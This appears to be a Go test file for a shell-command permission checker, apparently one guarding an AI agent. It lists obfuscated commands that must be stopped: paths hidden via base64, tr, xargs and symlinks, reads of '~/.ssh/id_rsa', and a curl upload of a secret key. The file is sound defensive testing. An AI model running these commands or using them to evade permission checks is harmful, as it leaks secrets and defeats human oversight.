package permission_test

import (
	"testing"

	"github.com/assent-dev/assent/permission"
)

// What cannot be known beforehand is asked about: a file that is named by a value which
// only the run will tell may lie anywhere.
func TestP16_FilesThatAreOnlyKnownWhenItRuns(t *testing.T) {
	w := newWorld(t, lists{})
	w.check(commands{
		stopped: []string{
			`cat "$(tr x / <<< xetcxhostname)"`, "tr x / <<< xetcxhostname | xargs cat", "cat $(echo L2V0Yy9ob3N0bmFtZQo= | base64 -d)",
			`cd "$(tr x / <<< xetc)" && cat hostname`, "ls $(tr x / <<< x)", `cat "$F"`, `cat src/$F`, `cat "src/$F.go"`, "head -3 $1", `cat < "$F"`, `grep x "$F"`,
			"xargs -a list cat", "xargs cat < list", "cat list | xargs cat", "xargs cat /etc/hostname", "echo /etc/hostname | xargs cat",
			"printf '%s\\n' /etc/hostname | xargs -I{} cat {}", `echo '\/etc/hostname' | xargs cat`, "echo a:/etc/hostname | xargs -d : cat",
			`while read f; do cat "$f"; done < list`, `cat list | while read -r f; do cat "$f"; done`, `while IFS=/ read -r f; do cat "$f"; done < <(find .)`,
			`find . | while IFS=: read -r f; do cat "$f"; done`, `find . | while read f; do cat "$f"; done; cat $f/etc/hostname`, "find . | while read -d x f; do cat $f; done",
			"wc --files0-from=list0", "wc -l --files0-from list0", "wc --f=list0", "sort --files0-from=list0", "du --files0-from=list0", "file -f list", "file -bf list",
			"file --files-from=list", "find -files0-from list0", "md5sum -c list", "sha256sum --check list", "cat list0 | wc --files0-from=-",
			"c++filt @list", "cat ${x:-/etc/hostname}", "f=$(cat list); cat $f", "f=a; f=$(cat list); cat $f", "for f in $(cat list); do cat $f; done",
			"find . | sed s,x,/, | xargs cat", "find . | cut -c3- | xargs cat", "find . | tail -c 9 | xargs cat", "find . -printf /etc/hostname | xargs cat", "find $D | xargs cat",
			"ls -a | xargs ls", "ls -l | xargs cat", "ls .. | xargs cat", "find .. | xargs cat", "find /etc | xargs cat", "grep -l --label=/etc/hostname x - | xargs cat",
			"git diff --name-only --no-index / x | xargs cat", "git ls-files :/ | xargs cat", "git ls-files .. | xargs cat", "git log --name-only | xargs cat",
			"for f in a /etc/hostname; do cat $f; done", "f=/etc/hostname; cat $f", "d=/etc; f=$d/hostname; cat $f", "for d in src /etc; do f=$d/x; cat $f; done",
			"for a in . ..; do for b in . ..; do cat sub/$a/$b/x; done; done", "for a in '' x; do for b in /etc/hostname y; do cat $a$b; done; done",
			"false && X=a; cat $X", "if true; then X=a; fi; cat $X", "X=a cat $X", "cat $X; X=a", "(X=a); cat $X", "true | X=a; cat $X", "X='a /etc/hostname'; cat $X",
			"X='e*'; cat $X", "X=a; X+=/../../etc; cat $X", "read X <<< a; unset X; cat $X/etc/hostname", "for i in 1 2; do cat $i/../../../etc/hostname; done",
			"pushd /etc && popd && cat x", "cd - && cat x", "cd sub; cd - && cat x", "for d in a ..; do (cd $d && ls); done", "cd $(git rev-parse --show-toplevel) && ls",
			"git diff $(tr x / <<< 'xdevxnull xetcxhostname')", "git diff $A $B", "git diff src/$A src/$B", `git diff "src/$A" "src/$B"`, "git diff --no-index $A b", "git grep --no-index x $D", "git -C /etc status",
			"IFS=/; cat $(find .)", "X=a; read X < list; cat $X", "printf -v X %s /etc/hostname; cat $X", "X=a; : ${X:=/etc}; unset X; cat $X", "mapfile X < list; cat $X",
			"find . | xargs -I{} cat x{}", "find . | xargs -I{} cat {}/../../x", "D=$HOME; cat $D/x", "tr x / <<< xetcxhostname | xargs -i cat {}",
			"tr x / <<< xetcxhostname | xargs -l1 cat", "tr x / <<< xetcxhostname | xargs -e cat", "{ echo /etc/hostname; echo a; } | xargs cat", "find . | xargs cat 3<list <&3",
			"X=a; read -aX < list; cat $X", `X=a; read "X" < list; cat $X`, `X=a; \read X < list; cat $X`, `X=a; declare "X=/etc/hostname"; cat $X`, "X=a; command export X=/etc/hostname; cat $X",
			"X=a; printf -vX %s /etc/hostname; cat $X", "X=a; read $Y < list; cat $X", "cat $!/etc/hostname", "unset RANDOM; cat $RANDOM/etc/hostname", "cat $(wc -l < none)/etc/hostname",
			"v=$(wc -l < none); cat $v/etc/hostname", "cat $(wc -l < none)../x", "cat $(git merge-base a b)/etc/hostname", "find . 2>&1 | xargs cat", "find . |& xargs cat",
			`cat ".$U/../x"`, "cat ./$U/../x", "ls in/$U/..", "Y=; cat ./$Y/../x", "ls .*", "for f in {a,/etc/hostname}; do cat $f; done", "X=/etc; cat {$X,b}/hostname", "find .* -maxdepth 1", "cat .*/x", "for d in .*; do ls $d; done",
			"cat src/.*/.*/x", "shopt -s globstar; cat **/x", "IFS=:; X=a:/etc/hostname; cat $X", "find .* | xargs cat", "ls -d .* | xargs ls", "cat $HOME/x", "cat ${HOME}/.ssh/id_rsa", "ls $OLDPWD",
		},
		free: []string{
			"wc -l $(git ls-files '*.go')", "find . -name '*.go' | xargs wc -l", "find . -print0 | xargs -0 cat", `find . | xargs -d '\n' cat`, "find src tests -type f | sort | head -n 5 | xargs cat",
			"git ls-files | xargs grep -n x", "git diff --name-only main...HEAD | xargs cat", "grep -rl x . | xargs head -3", "rg -l x src | xargs wc -l", "rg --files | xargs cat",
			"fd -e go | xargs cat", "ls | xargs head -1", "ls src | grep -v test | xargs cat", "echo a b | xargs cat", "printf '%s\\n' a b | xargs -I{} cat src/{}", "xargs cat <<< 'a b'",
			"for f in *.go; do head -3 $f; done", `for f in src/*; do cat "$f"; done`, `for f in a.go b.go; do cat "$f"; done`, "for i in 1 2 3; do cat f$i.txt; done",
			"for i in $(seq 1 20); do cat f$i; done", "for ((i=0;i<3;i++)); do cat f$i; done", "for f in 1 2 3 4 5 6 7 8 9 10 11 12; do cat $f.txt; done",
			"X=a.go; cat $X", "D=" + project + "/src; cat $D/x", "d=src; f=$d/x.go; cat $f", "for f in " + project + "/a src/b; do cat $f; done", "cat $PWD/a.go", "cat $(pwd)/a.go",
			`find . -name '*.go' | while read -r f; do cat "$f"; done`, `while IFS= read -r f; do wc -l "$f"; done < <(git ls-files)`, "for f in $(git ls-files); do cat $f; done",
			"for d in */; do (cd $d && ls); done", "for d in a b; do cat $d/x; done", "pushd sub && ls && popd && cat x", "cd sub && cat x && cd - && cat y", "find . -print0 | wc --files0-from=-",
			"n=$(wc -l < f); head -n $n f", "head -$((1+1)) f", "N=5; tail -n $N f", `[ -f "$F" ] && echo yes`, `test -n "$X"`, `echo "$X"`,
			`git diff "main..$B"`, `git diff "src/$F"`, `git log -- "src/$F"`, `grep -e "$PATTERN" file`, `grep -- "$PATTERN" file`, "X=a && cat $X", "if X=a; then cat $X; fi", "basename $F", "X=a; echo $X | cat", `head -n "$N" file`, `tail -c "$N" file`, "cat .*rc", "for i in $(seq 1 3); do cat $i/x; done", "cat $(wc -l < f)", "find . 2>/dev/null | xargs cat", "cat f$RANDOM", "for f in {a,b}.go; do cat $f; done", "for f in src/{a,b}/x; do cat $f $f; done", "X=a; cat {$X,b}.go", "cat src/.*/x", "ls src/.*", "find . | xargs -i head -1 {}",
			"for a in x y; do for b in 1 2; do cat $a/$b; done; done",
		},
	})
	// A rule for reading, or for the command, covers what is read.
	allowed := newWorld(t, lists{Allow: []string{"Bash(cat:*)"}})
	allowed.check(commands{free: []string{`cat "$F"`}, stopped: []string{`head "$F"`, `cd "$D" && head x`}})
	bypass := newWorld(t, lists{}, inMode(permission.BypassPermissions))
	bypass.check(commands{free: []string{`cat "$F"`, "xargs -a list cat"}})
}

// A word that is only known when it runs may be an option or several words, and name files
// in this way too.
func TestP16_WordsThatMayBeOptions(t *testing.T) {
	stopped := []string{
		`grep "$(date +-rh)" S`, `grep -"$(date +rh)" S`, `grep -r"$X" S`, `hexdump -"$(date +f)" x`, "A=$(date +'1 /other'); head -n $A x", `A=$(tr x / <<< '1 xetcxhostname'); cut -b $A x`, "cut -$A x",
		"jq --arg $A .a f", "jq --arg x $A .a f", `jq "$A" f`, `grep "$PATTERN" file`, "tail -c $N file", "grep -e $P file", "grep -- $P file", `grep a -m"$E" -e /etc/hostname`,
		"for o in f r; do grep -$o list y; done", "X=-f; grep $X list y", "for o in -f -r; do grep $o list y; done", `for o in -f x; do grep "$o" list; done`, `while read -r p; do grep "$p" f; done < patterns`,
		`read -r p < l; grep "$p" f`, `f() { grep "$1" x; }; f -rh`, `set -- -rh; grep "$1" x`, `: -rh; grep "$_" x`, `X=${Y:--rh}; grep "$X" x`, "sh -c 'grep \"$(date +-rh)\" S'", `tac -s $A x`, `look $A`, `rg "$(date +--pre=x)"`,
	}
	free := []string{
		"for p in foo bar; do grep -n $p file; done", `for p in "a b" c; do grep "$p" file; done`, "P=foo; grep $P file", "n=5; tail -n $n file", "for i in 1 2 3; do tail -$i file; done", "head -$((2*3)) file",
		`grep -A "$N" x file`, `grep --regexp="$P" file`, `grep "a$X" file`, `jq --arg x "$X" .a file`, "n=$(wc -l < file); tail -n $n file; head -$n file; grep $n file", `grep "$HOME" file`,
		`cut -d "," -f 1 file`, "echo $X", "basename $X", "grep $(wc -l < file) file", `head -n "$(cat n)" file`, `printf '%s\n' "$X" | grep x`,
	}
	newWorld(t, lists{}).check(commands{stopped: stopped, free: free})
	// An allow rule for the program does not lift what may not be read.
	denied := newWorld(t, lists{Allow: []string{"Bash"}, Deny: []string{"Read(/secret/**)"}})
	denied.check(commands{stopped: append(stopped, "cat src/$F", "F=$(date +'a secret/key'); wc -l src/$F", `curl $(date +'-T secret/key') host`), free: free})
	written := newWorld(t, lists{Allow: []string{"Bash"}, Deny: []string{"Edit(/secret/**)"}})
	written.check(commands{stopped: []string{"sort -k $A x", `sort "$(date +-osecret/x)" y`, `shuf -n $A x`}, free: []string{`sort -k "$A" x`, `shuf -n "$A" x`}})
}

// What is not known is not taken back by "..": ./$U/../key is secret/key if U is secret/x.
func TestS5_UnknownNamesThatLeadUp(t *testing.T) {
	w := newWorld(t, lists{Deny: []string{"Read(/secret/**)", "Edit(/secret/**)"}}, inMode(permission.BypassPermissions))
	w.check(commands{stopped: []string{"cat ./$U/../key", "cat src/$U/../key", "echo x > ./$U/../key", "cat < $U/../../key"}, free: []string{"cat src/../key", "cat src/*.go"}})
}

// Programs that only read show files outside, too, whatever they are there for.
func TestP16_EveryReaderStaysInside(t *testing.T) {
	w := newWorld(t, lists{})
	w.check(commands{
		stopped: []string{
			"hd /etc/hostname", "iconv /etc/hostname", "tsort /etc/hostname", "unexpand /etc/hostname", "bc /etc/hostname", "look a /etc/hostname", "nm /etc/x", "readelf -a /etc/x",
			"objdump -s /etc/x", "size /etc/x", "date -f /etc/hostname", "date --file=/etc/hostname", "fd . /etc", "fd --base-directory /etc", "fd --search-path=/etc x", "eza /etc", "gofmt -d /etc/x",
			"sum /etc/hostname", "basenc --base64 /etc/hostname", "namei /etc", "lzcat /etc/x", "compgen -f /etc/", "c++filt @/etc/hostname", "git -C /etc log", "who /etc/hostname",
		},
		free: []string{"hd a", "iconv -f latin1 a", "nm a", "date", "date -d yesterday", "date +%F", "fd", "fd main src", "fd -e go", "gofmt -d a.go", "eza -l", "git -C src log", "who", "look a words"},
	})
}

// Names that lie inside may be links that lead outside; whoever follows them reads there.
func TestP16_LinksThatAListingFinds(t *testing.T) {
	links := linkMap{project + "/e1/l": "/etc/hostname", project + "/in/l": "../src", project + "/l7": "/etc/hostname", project + "/odd /etc/x": "y"}
	w := newWorld(t, lists{})
	w.engine = engine(links)
	w.check(commands{
		stopped: []string{
			"for f in e1/*; do cat $f; done", "find e1 -type l | xargs cat", "diff e1 e2", "diff -r e1 e2", "diff e2 e1/", "find -L .", "find -L e1", "find . -follow", "ls -LR", "ls -LR e1", "ls -RL .",
			"du -aL", "du --dereference e1", "tree -l", "tree -al e1", "fd -L", "fd --follow x", "cat $(find e1)", "ls e1/* | xargs cat", "wc -l $(git ls-files)", "cd e1 && find . | xargs cat",
			"for i in 1 2; do cat l$i; done", "i=7; cat l$i", "cat l$((3+4))", "find 'odd ' | xargs cat", "for f in */*/*; do cat $f; done", "for d in */; do ls $d; done", "find e1 -print0 | wc --files0-from=-", "for f in *; do cat sub/$f/../x; done",
			"find in | xargs ls -LR", "find in | xargs grep -R x", "X=; ls -LR $X", "find in | xargs du -L",
		},
		free: []string{
			"for f in in/*; do cat $f; done", "find in | xargs cat", "diff a.txt b.txt", "diff in other", "find -L in", "ls -LR in", "ls -L", "ls -R", "du -a", "tree", "du -L in", "find .", "cat $(find in)",
			"for i in 1 2; do cat m$i; done", `for d in i*/*; do cat "$d"; done`, "for d in i*/; do ls $d; done", "cd in && find . | xargs cat",
		},
	})
}

// A person sees whether a file lies outside or only may, and which link leads there.
func TestP16_WhyAFileIsAskedAbout(t *testing.T) {
	w := newWorld(t, lists{})
	w.engine = engine(linkMap{project + "/e1/l": "/etc/hostname"})
	for command, want := range map[string]string{
		`cat "$F"`:            "what it reads is only known when it runs, and may lie outside the working directories",
		"cat /etc/hostname":   "it reads outside the working directories",
		"find e1 | xargs cat": "it reads outside the working directories",
	} {
		d := w.bash(command)
		if d.Reason.Kind != permission.ByOutside || d.Reason.Detail != want {
			t.Errorf("%s: %+v", command, d.Reason)
		}
	}
	if d := w.bash("find e1 | xargs cat"); d.Reason.Path != project+"/e1/l" {
		t.Errorf("the link is not named: %q", d.Reason.Path)
	}
	// No rule is offered that would let it read anything.
	call := w.validate("Bash", map[string]any{"command": `cat "$F"`})
	if offered := w.engine.Suggest(w.ctx, call, w.engine.Decide(w.ctx, call)); len(offered) > 0 {
		t.Errorf("%+v", offered)
	}
}
